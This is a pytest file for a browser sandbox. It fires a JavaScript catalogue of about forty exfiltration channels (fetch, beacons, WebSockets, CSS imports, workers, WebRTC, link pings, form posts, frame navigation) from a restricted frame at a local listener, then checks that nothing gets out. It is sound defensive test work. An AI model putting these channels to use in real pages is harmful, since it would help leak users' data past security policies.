"""Whether anything gets out of the frame in which the page reads files: what runs in there tries every way we know."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from aiohttp import web
from browser import needs_chromium, open_browser
from firefox import needs_firefox, open_firefox

from bot.page.build import FOLDER, page_with

CLOSING = (FOLDER / "frame" / "closing.js").read_text(encoding="utf-8")
WAYS = """
const put = (tag, properties) => document.documentElement.appendChild(Object.assign(document.createElement(tag), properties));
const worker = (code) => new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
const ways = {
  fetch: (url) => fetch(url, { mode: 'no-cors' }),
  keepalive: (url) => fetch(url, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
  request: (url) => { const request = new XMLHttpRequest(); request.open('GET', url); request.send(); },
  socket: (url) => new WebSocket(url.replace('http', 'ws')),
  events: (url) => new EventSource(url),
  beacon: (url) => navigator.sendBeacon(url, 'x'),
  image: (url) => { new Image().src = url; },
  style: (url) => put('link', { rel: 'stylesheet', href: url }),
  imported: (url) => put('style', { textContent: `@import "${url}";` }),
  background: (url) => { document.documentElement.style.background = `url(${url})`; },
  font: (url) => new FontFace('x', `url(${url})`).load(),
  script: (url) => put('script', { src: url }),
  module: (url) => import(url),
  prefetch: (url) => put('link', { rel: 'prefetch', href: url }),
  preload: (url) => put('link', { rel: 'preload', as: 'image', href: url }),
  preconnect: (url) => put('link', { rel: 'preconnect', href: url }),
  manifest: (url) => put('link', { rel: 'manifest', href: url }),
  icon: (url) => put('link', { rel: 'icon', href: url }),
  video: (url) => put('video', { src: url, preload: 'auto' }),
  poster: (url) => put('video', { poster: url }),
  frame: (url) => put('iframe', { src: url }),
  inner: (url) => put('iframe', { srcdoc: `<img src="${url}">` }),
  object: (url) => put('object', { data: url }),
  embed: (url) => put('embed', { src: url }),
  worker: (url) => worker(`fetch('${url}', { mode: 'no-cors' })`),
  shared: (url) => new SharedWorker(url),
  service: (url) => navigator.serviceWorker.register(url),
  transport: (url) => new WebTransport(url.replace('http', 'https')),
  peer: async (url) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(url).host}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
  popup: (url) => open(url),
  noopener: (url) => open(url, '_blank', 'noopener'),
  ping: (url) => Object.assign(document.createElement('a'), { href: '#x', ping: url }).click(),
  form: (url) => {
    const form = Object.assign(document.createElement('form'), { action: url, method: 'post', target: '_blank' });
    document.documentElement.append(form);
    form.submit();
  },
  top: (url) => { top.location.href = url; },
  parent: (url) => { parent.location.replace(url); },
};
"""
"""How what runs in the frame may ask for an address, and go on."""
TRY = """
(async () => {
  for (const [name, way] of Object.entries(ways)) {
    try { Promise.resolve(way(`${origin}/${name}?secret`)).catch(() => {}); } catch {}
    await new Promise((resolve) => { setTimeout(resolve, 10); });
  }
  // Said again and again: nobody may be listening yet.
  setInterval(() => parent.postMessage({ tried: Object.keys(ways).length }, '*'), 100);
})();
"""
LEAVING = [
    "put('meta', { httpEquiv: 'refresh', content: `0;url=${origin}/refresh` })",
    "location.href = `${origin}/location`",
    "location.replace(`${origin}/replaced`)",
    "put('a', { href: `${origin}/link` }).click()",
    "put('a', { href: `${origin}/download`, download: 'x' }).click()",
    "put('form', { action: `${origin}/form`, method: 'post' }).submit()",
]
"""How it may go there itself: each ends the script."""
HEARD = {"fetch", "socket", "beacon", "image", "style", "script", "frame", "worker", "datagram"}
"""What comes from a page of no policy, in either browser."""


@dataclass
class Listener(asyncio.DatagramProtocol):
    """Hears whatever comes to one port of this machine, over TCP and UDP."""

    origin: str = ""
    arrived: list[str] = field(default_factory=list)

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.arrived.append("datagram")

    async def request(self, request: web.BaseRequest) -> web.Response:
        self.arrived.append(request.path.strip("/"))
        return web.Response(text="")


@asynccontextmanager
async def listening() -> AsyncIterator[Listener]:
    listener = Listener()
    loop = asyncio.get_running_loop()
    server = web.Server(listener.request)
    http = await loop.create_server(server, "127.0.0.1", 0)
    port = http.sockets[0].getsockname()[1]
    listener.origin = f"http://127.0.0.1:{port}"
    transport, _ = await loop.create_datagram_endpoint(lambda: listener, local_addr=("127.0.0.1", port))
    try:
        yield listener
    finally:
        transport.close()
        http.close()
        await server.shutdown()


def hostile(origin: str, *scripts: str) -> str:
    return "\n".join((f"const origin = {json.dumps(origin)};", WAYS, *scripts))


WAIT = """new Promise((resolve) => {
  window.addEventListener('message', ({ data }) => { if (data.tried) resolve(data.tried); });
})"""


@pytest.mark.parametrize(
    "browser",
    [pytest.param("chromium", marks=needs_chromium), pytest.param("firefox", marks=needs_firefox)],
)
async def test_nothing_gets_out_of_the_frame_however_it_tries(browser: str, tmp_path: Path) -> None:
    open_ = open_browser if browser == "chromium" else open_firefox
    async with listening() as listener, open_(tmp_path / "profile") as tab:
        file = tmp_path / "page.html"

        async def look_at(page: str) -> None:
            file.write_text(page, encoding="utf-8")
            await tab.open(file.as_uri())

        await look_at(page_with(f"{CLOSING}\n{hostile(listener.origin, TRY)}"))
        assert await tab.run(WAIT) > 30
        for way in LEAVING:
            await look_at(page_with(f"{CLOSING}\n{hostile(listener.origin, way)}"))
            await tab.run("new Promise((resolve) => { setTimeout(resolve, 500); })")
            assert await tab.run("location.protocol + document.title") == "file:지킴이"
        assert listener.arrived == []

        # The same script on a page of no policy: the listener hears it, so it would have heard it.
        script = hostile(listener.origin, "for (const way of ['top', 'parent']) delete ways[way];", TRY)
        await look_at(f"<!doctype html><html><script>{script}</script>")
        await tab.run(WAIT)
        # What was asked for last may still be on its way.
        async with asyncio.timeout(30):
            while not set(listener.arrived) >= HEARD:
                await asyncio.sleep(0.05)
